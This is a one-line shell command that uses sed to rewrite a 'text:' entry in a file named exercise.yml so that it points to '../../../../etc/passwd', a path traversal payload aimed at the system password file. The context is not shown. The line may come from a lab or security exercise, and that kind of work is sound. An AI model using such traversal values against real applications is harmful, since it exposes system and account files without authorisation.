sed -i 's|text: 10-look.md|text: ../../../../etc/passwd|' exercise.yml
